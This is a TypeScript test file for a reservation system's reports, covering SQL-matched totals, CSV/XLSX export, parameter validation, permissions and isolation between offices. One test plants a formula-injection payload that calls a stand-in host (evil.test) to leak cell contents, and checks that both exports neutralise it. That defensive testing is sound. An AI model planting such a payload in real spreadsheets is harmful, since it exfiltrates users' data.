/**
 * Reports (issue 10): every report's totals equal a direct SQL sum over the same demo data, the streamed rows add up
 * to those totals, files carry the same rows, bad parameters answer a clear error and change nothing, each report
 * needs its own permission, and one OU never sees another's rows. Both databases.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import { catalogValueId } from '../../../testing/productFixtures.ts';
import { expectTablesUnchanged, signIn, type SignedIn } from '../../../testing/adminFixtures.ts';
import { openDay, payableProduct, payableReservation } from '../../../testing/cashierFixtures.ts';
import { signInCusco } from '../../../testing/ouFixtures.ts';
import { createTestServer, dbKinds, type TestServer } from '../../../testing/testServer.ts';
import { createAdvance, voidAdvance } from '../../advances.ts';
import { completeCashierTransaction, voidPayment } from '../../cashierTransactions.ts';
import { expectedAmounts } from '../../dailyCashier.ts';
import { add } from '../../money.ts';
import { REPORTS } from '../reportCatalog.ts';
import { reportBatches } from '../reportRunner.ts';
import { REPORT_KEYS } from '../reportTypes.ts';

interface Streamed {
  status: number;
  start?: { columns: { key: string; label: string }[]; estimate: number };
  rows: unknown[][];
  totals: { currency: string | null; rows: number; sums: Record<string, string> }[];
  end?: { rows: number; truncated: boolean };
  error?: string;
  body: Record<string, unknown>;
}

const today = () => new Date().toISOString().slice(0, 10);
const shift = (day: string, days: number) => new Date(Date.parse(`${day}T00:00:00Z`) + days * 86_400_000).toISOString().slice(0, 10);
const money = (value: string | null | undefined) => add(value ?? '0', '0.00');

describe.each(dbKinds)('reports (%s)', (kind) => {
  let server: TestServer;
  let admin: SignedIn;
  let lim: string;
  let cuz: string;
  const range = { from: '', to: '' };

  const run = async (caller: SignedIn, key: string, params: Record<string, unknown>, format = 'screen', locale = 'en') =>
    caller.client.post(`/api/reports/${key}`, { params, format, locale }, { token: caller.token });

  async function stream(caller: SignedIn, key: string, params: Record<string, unknown>, locale = 'en'): Promise<Streamed> {
    const response = await run(caller, key, params, 'screen', locale);
    const out: Streamed = { status: response.statusCode, rows: [], totals: [], body: {} };
    if (response.statusCode !== 200) {
      out.body = response.json();
      return out;
    }
    for (const line of response.body.split('\n').filter(Boolean)) {
      const event = JSON.parse(line);
      if (event.type === 'start') out.start = event;
      if (event.type === 'rows') out.rows.push(...event.rows);
      if (event.type === 'totals') out.totals = event.totals;
      if (event.type === 'end') out.end = event;
      if (event.type === 'error') out.error = event.message;
    }
    return out;
  }

  /** Totals per currency as { 'USD': { amount: '12.00' } } for comparing with a direct SQL answer. */
  const byCurrency = (totals: Streamed['totals'], columns: string[]) =>
    Object.fromEntries(totals.map((t) => [t.currency ?? '-', Object.fromEntries(columns.map((c) => [c, money(t.sums[c])]))]));
  const sqlByCurrency = async (sql: string, params: unknown[], columns: string[]) => {
    const rows = await server.db.query<Record<string, string>>(sql, params);
    return Object.fromEntries(rows.map((r) => [r.currency ?? '-', Object.fromEntries(columns.map((c) => [c, money(String(r[c]))]))]));
  };

  beforeAll(async () => {
    server = await createTestServer(kind);
    admin = await signIn(server, 'ADMIN');
    [{ id: lim }] = await server.db.query<{ id: string }>(`select id_ou as id from ou where code = 'LIM'`);
    [{ id: cuz }] = await server.db.query<{ id: string }>(`select id_ou as id from ou where code = 'CUZ'`);
    // The demo reservations lie around today; a range of a year either side of their middle covers them.
    const [span] = await server.db.query<{ min: string; max: string }>(
      `select min(reservation_date)::text as min, max(reservation_date)::text as max from reservation`);
    range.from = span.min;
    range.to = shift(span.min, 365) < span.max ? span.max : shift(span.min, 365);

    // A day of the cashier: a cash payment with change and a voided card-free second payment.
    const instance = await payableProduct(server.db, lim, 'RPT1');
    const reservation = await payableReservation(server.db, lim, instance, ['100.00', '50.50'], { reservationDate: today() });
    const second = await payableReservation(server.db, lim, instance, ['30.00'], { reservationDate: today() });
    await openDay(server.db, lim, admin.idUser);
    const usd = await catalogValueId(server.db, 'CURRENCY', 'USD');
    const cashier = { idOu: lim, idUser: admin.idUser };
    await server.db.transaction((tx) => completeCashierTransaction(tx, cashier, {
      idempotencyKey: randomUUID(),
      items: reservation.items.map((id, i) => ({ idReservationItem: id, amountToPay: i ? '50.50' : '100.00' })),
      payments: [{ method: 'CASH', idCurrency: usd, amount: '200.00' }],
    }));
    const { idCashierTransaction } = await server.db.transaction((tx) => completeCashierTransaction(tx, cashier, {
      idempotencyKey: randomUUID(),
      items: [{ idReservationItem: second.items[0], amountToPay: '30.00' }],
      payments: [{ method: 'CASH', idCurrency: usd, amount: '30.00' }],
    }));
    const [payment] = await server.db.query<{ id: string }>(
      'select id_payment as id from payment where id_cashier_transaction = $1', [idCashierTransaction]);
    await server.db.transaction((tx) => voidPayment(tx, cashier, { idPayment: payment.id, reason: 'test', idempotencyKey: randomUUID() }));
    // Two cash advances of the customer: one kept (80.00), one voided the same day (25.00).
    const [customer] = await server.db.query<{ id: string }>(
      `select r.id_entity as id from reservation r where r.id_reservation = $1`, [reservation.idReservation]);
    await server.db.transaction((tx) => createAdvance(tx, cashier, {
      idempotencyKey: randomUUID(), idEntity: customer.id, idCurrency: usd, amount: '80.00', method: 'CASH' }));
    const { idAdvance } = await server.db.transaction((tx) => createAdvance(tx, cashier, {
      idempotencyKey: randomUUID(), idEntity: customer.id, idCurrency: usd, amount: '25.00', method: 'CASH' }));
    await server.db.transaction((tx) => voidAdvance(tx, cashier, { idAdvance, reason: 'test', idempotencyKey: randomUUID() }));
  });
  afterAll(() => server?.close());

  it('lists every report to ADMIN and none to a reservations role', async () => {
    const all = await admin.gql<{ availableReports: string[] }>('{ availableReports }');
    expect(all.data?.availableReports).toEqual(REPORT_KEYS.filter((k) => REPORTS[k]));
    const resadm = await signIn(server, 'RESADM');
    const none = await resadm.gql<{ availableReports: string[] }>('{ availableReports }');
    expect(none.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const refused = await run(resadm, 'salesByPeriod', { from: range.from, to: range.to });
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ code: 'FORBIDDEN' });
  });

  it('sales by period: totals equal the sum of sold items, and the rows add up to them', async () => {
    const result = await stream(admin, 'salesByPeriod', { ...range, groupBy: 'month' });
    expect(result.error).toBeUndefined();
    const expected = await sqlByCurrency(
      `select c.code as currency, sum(ri.amount) as amount, sum(ri.quantity) as quantity from reservation r
       join reservation_item ri using (id_reservation) join general_parameter_value c on c.id_general_parameter_value = r.id_currency
       where r.id_ou = $1 and r.reservation_date between $2 and $3 and r.status in ('CONFIRMED', 'PARTIALLY_PAID', 'PAID')
         and ri.status <> 'CANCELLED' group by 1`, [lim, range.from, range.to], ['amount', 'quantity']);
    expect(Object.keys(expected).length).toBeGreaterThan(0);
    expect(byCurrency(result.totals, ['amount', 'quantity'])).toEqual(expected);
    const columns = result.start!.columns.map((c) => c.key);
    const amountAt = columns.indexOf('amount');
    const currencyAt = columns.indexOf('currency');
    const streamed: Record<string, string> = {};
    for (const row of result.rows) streamed[row[currencyAt] as string] = add(streamed[row[currencyAt] as string] ?? '0.00', row[amountAt] as string);
    expect(streamed).toEqual(Object.fromEntries(Object.entries(expected).map(([c, v]) => [c, v.amount])));
    expect(result.rows.every((row) => /^\d{4}-\d{2}$/.test(row[0] as string))).toBe(true);
  });

  it('reads the same rows in small keyset batches as in one', async () => {
    const def = REPORTS.salesByPeriod!;
    const params = { ...range };
    const whole: unknown[] = [];
    for await (const batch of reportBatches(server.db, def, lim, params, { batchSize: 100_000 })) whole.push(...batch);
    const small: unknown[] = [];
    for await (const batch of reportBatches(server.db, def, lim, params, { batchSize: 7 })) small.push(...batch);
    expect(small).toEqual(whole);
    expect(whole.length).toBeGreaterThan(7);
  });

  it('reservations by status: amount, pending and passengers equal the reservations', async () => {
    const result = await stream(admin, 'reservationsByStatus', range);
    const expected = await sqlByCurrency(
      `select c.code as currency, sum(r.amount) as amount, sum(r.pending_amount) as pending, sum(r.passenger_count) as passengers
       from reservation r join general_parameter_value c on c.id_general_parameter_value = r.id_currency
       where r.id_ou = $1 and r.reservation_date between $2 and $3 group by 1`, [lim, range.from, range.to], ['amount', 'pending', 'passengers']);
    expect(byCurrency(result.totals, ['amount', 'pending', 'passengers'])).toEqual(expected);
    const confirmed = await stream(admin, 'reservationsByStatus', { ...range, status: 'CONFIRMED' });
    expect(confirmed.rows.every((row) => row[0] === 'CONFIRMED')).toBe(true);
  });

  it('passenger manifest: one row per active passenger of each sold service; cancelled and waitlisted left off', async () => {
    const [{ day }] = await server.db.query<{ day: string }>(
      `select ri.service_date::text as day from reservation_item ri join reservation r using (id_reservation)
       join reservation_passenger p using (id_reservation)
       where r.id_ou = $1 and r.status in ('CONFIRMED', 'PARTIALLY_PAID', 'PAID') and ri.status <> 'CANCELLED'
       group by 1 order by count(*) desc limit 1`, [lim]);
    // One passenger of that day's busiest reservation waitlisted and one cancelled: neither may appear.
    const hidden = await server.db.query<{ id: string; name: string }>(
      `update reservation_passenger set status = case when sort_order % 2 = 0 then 'WAITLISTED' else 'CANCELLED' end
       where id_reservation_passenger in (select p.id_reservation_passenger from reservation_passenger p
         join reservation_item ri using (id_reservation) join reservation r using (id_reservation)
         where r.id_ou = $1 and ri.service_date = $2 and r.status <> 'QUOTE' and p.status = 'ACTIVE' limit 2)
       returning id_reservation_passenger as id, last_name || ', ' || first_name as name`, [lim, day]);
    const from = shift(day, -3);
    const to = shift(day, 3);
    const result = await stream(admin, 'passengerManifest', { from, to });
    const [{ count }] = await server.db.query<{ count: number }>(
      `select count(*)::int as count from reservation_item ri join reservation r using (id_reservation)
       join reservation_passenger p on p.id_reservation = r.id_reservation and p.status = 'ACTIVE'
       where r.id_ou = $1 and ri.service_date between $2 and $3 and ri.status <> 'CANCELLED'
         and r.status in ('CONFIRMED', 'PARTIALLY_PAID', 'PAID')`, [lim, from, to]);
    expect(result.rows.length).toBe(count);
    expect(result.totals[0].rows).toBe(count);
    expect(count).toBeGreaterThan(0);
    const names = new Set(result.rows.map((row) => row[4]));
    for (const h of hidden) expect(names.has(h.name)).toBe(false);
  });

  it('margin and supplier payables: selling and cost from the items and their rates', async () => {
    const margin = await stream(admin, 'marginByService', range);
    const expected = await sqlByCurrency(
      `select c.code as currency, sum(ri.amount) as selling,
         sum(case when rt.selling_total > 0 then round(ri.amount * rt.purchase_total / rt.selling_total, 2) else 0 end) as cost
       from reservation_item ri join reservation r using (id_reservation)
       join general_parameter_value c on c.id_general_parameter_value = r.id_currency
       left join rate_instance rt on rt.id_rate_instance = ri.id_rate_instance
       where r.id_ou = $1 and ri.service_date between $2 and $3 and ri.status <> 'CANCELLED'
         and r.status in ('CONFIRMED', 'PARTIALLY_PAID', 'PAID') group by 1`, [lim, range.from, range.to], ['selling', 'cost']);
    expect(byCurrency(margin.totals, ['selling', 'cost'])).toEqual(expected);
    for (const total of margin.totals) expect(money(total.sums.margin)).toBe(add(total.sums.selling, `-${total.sums.cost}`));
    const payables = await stream(admin, 'supplierPayables', range);
    expect(byCurrency(payables.totals, ['cost'])).toEqual(
      Object.fromEntries(Object.entries(expected).map(([c, v]) => [c, { cost: v.cost }])));
  });

  it('accounts receivable: pending of confirmed and partly paid reservations, aged', async () => {
    const result = await stream(admin, 'accountsReceivable', { from: shift(range.to, -1000), to: range.to });
    const expected = await sqlByCurrency(
      `select c.code as currency, sum(r.pending_amount) as pending from reservation r
       join general_parameter_value c on c.id_general_parameter_value = r.id_currency
       where r.id_ou = $1 and r.reservation_date between $2 and $3 and r.status in ('CONFIRMED', 'PARTIALLY_PAID')
         and r.pending_amount > 0 group by 1`, [lim, shift(range.to, -1000), range.to], ['pending']);
    expect(byCurrency(result.totals, ['pending'])).toEqual(expected);
    for (const t of result.totals) {
      expect(money([t.sums.days0to30, t.sums.days31to60, t.sums.days61to90, t.sums.daysOver90].reduce(add, '0'))).toBe(money(t.sums.pending));
    }
  });

  it('daily cashier close: payments, voids, change and expected equal the payment rows', async () => {
    const result = await stream(admin, 'dailyCashierClose', { from: today(), to: today() });
    const expected = await sqlByCurrency(
      `select c.code as currency,
         sum(p.amount) filter (where p.reversal_of is null) as payments,
         coalesce(sum(p.amount) filter (where p.reversal_of is not null), 0) as voids,
         sum(p.change_amount) as change
       from payment p join daily_cashier d using (id_daily_cashier)
       join general_parameter_value c on c.id_general_parameter_value = p.id_currency
       where d.id_ou = $1 and d.cashier_date = $2 group by 1`, [lim, today()], ['payments', 'voids', 'change']);
    expect(byCurrency(result.totals, ['payments', 'voids', 'change'])).toEqual(expected);
    expect(expected.USD).toEqual({ payments: '230.00', voids: '-30.00', change: '49.50' });
    // Advances taken less the one voided the same day; expected = payments + voids + advances - change, as the close counts it.
    expect(money(result.totals[0].sums.advances)).toBe('80.00');
    expect(money(result.totals[0].sums.expected)).toBe('230.50');
    const [{ id: day }] = await server.db.query<{ id: string }>(
      'select id_daily_cashier as id from daily_cashier where id_ou = $1 and cashier_date = $2', [lim, today()]);
    const fromDomain = (await expectedAmounts(server.db, day)).map((line) => line.expectedAmount).reduce(add, '0.00');
    expect(money(result.totals[0].sums.expected)).toBe(money(fromDomain));
  });

  it('advances: totals, applied and available equal the advance rows; voided ones only on request', async () => {
    const result = await stream(admin, 'advances', { from: today(), to: today() });
    const expected = await sqlByCurrency(
      `select c.code as currency, sum(a.total) as total, sum(a.available_amount) as available from advance a
       join general_parameter_value c on c.id_general_parameter_value = a.id_currency
       where a.id_ou = $1 and a.advance_date = $2 and a.status <> 'VOIDED' group by 1`, [lim, today()], ['total', 'available']);
    expect(byCurrency(result.totals, ['total', 'available'])).toEqual(expected);
    expect(expected.USD).toEqual({ total: '80.00', available: '80.00' });
    const voided = await stream(admin, 'advances', { from: today(), to: today(), status: 'VOIDED' });
    expect(voided.rows.map((row) => row[4])).toEqual(['25.00']);
  });

  it('inventory occupancy: capacity and held equal the inventory days', async () => {
    const from = today();
    const to = shift(from, 180);
    const result = await stream(admin, 'inventoryOccupancy', { from, to });
    const expected = await sqlByCurrency(
      `select null as currency, sum(d.capacity) as capacity, sum(d.held) as held from inventory_day d
       join product_instance i using (id_product_instance) join product p using (id_product)
       where p.id_ou = $1 and p.has_inventory and d.day between $2 and $3`, [lim, from, to], ['capacity', 'held']);
    expect(byCurrency(result.totals, ['capacity', 'held'])).toEqual(expected);
  });

  it('writes the same rows and totals to XLSX and CSV, in the reader\'s language', async () => {
    const screen = await stream(admin, 'dailyCashierClose', { from: today(), to: today() });
    const xlsx = await run(admin, 'dailyCashierClose', { from: today(), to: today() }, 'xlsx', 'es');
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-disposition']).toContain('.xlsx');
    const book = XLSX.read(xlsx.rawPayload, { type: 'buffer' });
    const sheet = book.Sheets[book.SheetNames[0]];
    expect(book.SheetNames[0]).toBe('Cierre de caja diario');
    const rows = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true });
    expect(rows[0]).toContain('Tipo de pago');
    expect(rows.length).toBe(1 + screen.rows.length + screen.totals.length);
    const payments = screen.start!.columns.findIndex((c) => c.key === 'payments');
    expect(rows.slice(1, 1 + screen.rows.length).map((r) => r[payments])).toEqual(screen.rows.map((r) => Number(r[payments])));
    // The Spanish page sends its formatting locale (es-419): any Spanish locale reads Spanish.
    const csv = await run(admin, 'dailyCashierClose', { from: today(), to: today() }, 'csv', 'es-419');
    const lines = csv.body.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines[0].split(';')).toContain('Tipo de pago');
    expect(lines.length).toBe(1 + screen.rows.length + screen.totals.length);
    expect(lines.at(-1)).toMatch(/^Total USD;/);
    expect(lines.at(-1)).toContain('230,00');
  });

  it('writes a name that looks like a formula as text: CSV neutralised (OWASP), XLSX a string cell; numbers stay numbers', async () => {
    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
    const [{ id, name }] = await server.db.query<{ id: string; name: string }>(
      `select e.id_entity as id, e.name from reservation r join entity e using (id_entity)
       where r.id_ou = $1 and r.reservation_date = $2::date limit 1`, [lim, today()]);
    await server.db.query('update entity set name = $2 where id_entity = $1', [id, formula]);
    try {
      const params = { from: today(), to: today() };
      for (const [locale, separator] of [['en', ','], ['es', ';']] as const) {
        const csv = await run(admin, 'reservationsByStatus', params, 'csv', locale);
        expect(csv.statusCode).toBe(200);
        const lines = csv.body.replace(/^\uFEFF/, '').trim().split('\r\n');
        const line = lines.find((l) => l.includes('HYPERLINK'))!;
        // Quoted (it holds quotes) and led by an apostrophe: a spreadsheet shows it, never runs it.
        expect(line).toContain(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")"`);
        expect(lines.some((l) => l.split(separator).some((cell) => /^"?[=+@]/.test(cell)))).toBe(false);
        // The amounts of the same line are plain numbers in the reader's format.
        expect(line).toMatch(locale === 'en' ? /,"?\d[\d,]*\.\d{2}"?,/ : /;"?\d[\d.]*,\d{2}"?;/);
      }
      const xlsx = await run(admin, 'reservationsByStatus', params, 'xlsx', 'en');
      const sheet = XLSX.read(xlsx.rawPayload, { type: 'buffer', cellFormula: true }).Sheets.Sheet1
        ?? Object.values(XLSX.read(xlsx.rawPayload, { type: 'buffer', cellFormula: true }).Sheets)[0];
      const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')).map(([, cell]) => cell as XLSX.CellObject);
      const cell = cells.find((c) => String(c.v).includes('HYPERLINK'))!;
      expect(cell).toMatchObject({ t: 's', v: formula });
      expect(cells.some((c) => c.f)).toBe(false);
    } finally {
      await server.db.query('update entity set name = $2 where id_entity = $1', [id, name]);
    }
  });

  /** A refused parameter in the error contract's shape (issue 19): the field's path, its code and figures. */
  const field = (path: string, code: string, params: Record<string, unknown> = {}) => ({ fieldErrors: [{ path, code, params }] });

  it('refuses bad parameters with the field and the reason, and changes nothing', async () => {
    const tables = ['reservation', 'reservation_item', 'payment', 'daily_cashier'];
    await expectTablesUnchanged(server, tables, async () => {
      const cases: [string, Record<string, unknown>, Record<string, unknown>][] = [
        ['salesByPeriod', { from: '2026-03-10', to: '2026-03-01' }, field('to', 'END_BEFORE_START')],
        ['passengerManifest', { from: '2026-01-01', to: '2026-12-31' }, field('to', 'RANGE_TOO_LONG', { maxDays: 31 })],
        ['salesByPeriod', { from: '2026-02-30', to: '2026-03-01' }, field('from', 'INVALID_DATE')],
        ['salesByPeriod', { to: '2026-03-01' }, field('from', 'REQUIRED')],
        ['salesByPeriod', { from: '2026-03-01', to: '2026-03-02', status: 'QUOTE' }, field('status', 'INVALID_CHOICE')],
        ['salesByPeriod', { from: '2026-03-01', to: '2026-03-02', customer: randomUUID() }, field('customer', 'NOT_FOUND')],
        ['salesByPeriod', { from: '2026-03-01', to: '2026-03-02', currency: 'USD' }, field('currency', 'NOT_FOUND')],
        ['inventoryOccupancy', { from: '2026-03-01', to: '2026-03-02', customer: randomUUID() }, field('customer', 'INVALID_CHOICE')],
      ];
      for (const [key, params, expected] of cases) {
        const response = await run(admin, key, params);
        expect(response.statusCode, JSON.stringify(params)).toBe(400);
        expect(response.json()).toMatchObject({ code: 'VALIDATION', ...expected });
        // No `reason` outside ErrorReason's values: the field code says it all.
        expect(response.json()).not.toHaveProperty('reason');
      }
      expect((await run(admin, 'nope', range)).statusCode).toBe(404);
      expect((await admin.client.post('/api/reports/salesByPeriod', { params: range })).statusCode).toBe(401);
      expect((await admin.client.post('/api/reports/salesByPeriod', { params: range }, { token: admin.token, csrf: false })).statusCode).toBe(403);
    });
  });

  it('never crosses OUs: Cusco sees only Cusco, and a Lima customer is unknown there', async () => {
    const cusco = await signInCusco(server);
    const result = await stream(cusco, 'reservationsByStatus', range);
    const codes = new Set((await server.db.query<{ code: string }>('select code from reservation where id_ou = $1', [lim])).map((r) => r.code));
    expect(result.rows.length).toBeGreaterThan(0);
    expect(result.rows.some((row) => codes.has(row[2] as string))).toBe(false);
    const expected = await sqlByCurrency(
      `select c.code as currency, sum(r.amount) as amount from reservation r
       join general_parameter_value c on c.id_general_parameter_value = r.id_currency
       where r.id_ou = $1 and r.reservation_date between $2 and $3 group by 1`, [cuz, range.from, range.to], ['amount']);
    expect(byCurrency(result.totals, ['amount'])).toEqual(expected);
    const close = await stream(cusco, 'dailyCashierClose', { from: today(), to: today() });
    expect(close.rows).toEqual([]);
    const [limaOnly] = await server.db.query<{ id: string }>(
      `select id_entity as id from entity_ou where id_ou = $1 and id_entity not in (select id_entity from entity_ou where id_ou = $2) limit 1`,
      [lim, cuz]);
    const response = await run(cusco, 'salesByPeriod', { ...range, customer: limaOnly.id });
    expect(response.json()).toMatchObject(field('customer', 'NOT_FOUND'));
  });
});
